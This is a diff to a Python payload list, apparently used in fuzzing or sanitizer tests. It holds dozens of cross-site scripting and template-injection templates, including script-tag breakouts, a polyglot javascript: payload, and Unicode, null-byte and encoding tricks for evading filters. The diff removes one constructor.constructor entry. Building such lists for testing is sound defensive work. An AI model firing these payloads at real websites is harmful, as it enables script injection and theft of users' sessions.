@@ -70,7 +70,7 @@ _WRITTEN = [  # templates, strings inside scripts, and letters that look like ot
     "{{{{constructor.constructor('{}')()}}}}", "${{{}}}", "#{{{}}}", "<%= {} %>", "{{%{}%}}", "[[${{{}}}]]", "{{{{= {} }}}}", "*{{{}}}", "';{};//", "\";{};//", "`;{};//", "\\';{};//", "</script>{}", "*/{}/*", "\n{}\n", "-{}-", "javascript:{}",
     "javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{}//'>", "__proto__[innerHTML]=<img src=x onerror={}>", "\u202e<script>{}</script>\u202c", "\ufeff<script>{}</script>",
     "<\u200bscript>{}</script>", "<script\u2028>{}</script>", "\uff1cscript\uff1e{}\uff1c/script\uff1e", "\u2039script\u203a{}", "%3Cscript%3E{}%3C/script%3E", "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}", "+ADw-script+AD4-{}+ADw-/script+AD4-",
-    "<ſcript>{}</ſcript>", "<img src=x onerror\u00a0={}>", "<\x00script>{}</script>", "<scr\x00ipt>{}</script>", "<img src=x on\x00error={}>", "\u0000\u2066<svg onload={}>\u2069", "<a\u2029href=\"javascript:{}\">x</a>", "\u00bcscript\u00be{}\u00bc/script\u00be", "🐑<img src=x onerror={}>🐑", "ja\u00advascript:{}", "constructor.constructor(\"{}\")()",
+    "<ſcript>{}</ſcript>", "<img src=x onerror\u00a0={}>", "<\x00script>{}</script>", "<scr\x00ipt>{}</script>", "<img src=x on\x00error={}>", "\u0000\u2066<svg onload={}>\u2069", "<a\u2029href=\"javascript:{}\">x</a>", "\u00bcscript\u00be{}\u00bc/script\u00be", "🐑<img src=x onerror={}>🐑", "ja\u00advascript:{}",
 ]  # fmt: skip
 
 PAYLOADS = [text.format(*(2 * [RUN])) for text in (*_SELF_RUNNING, *_WAITING, *_MARKDOWN, *_WRITTEN)]
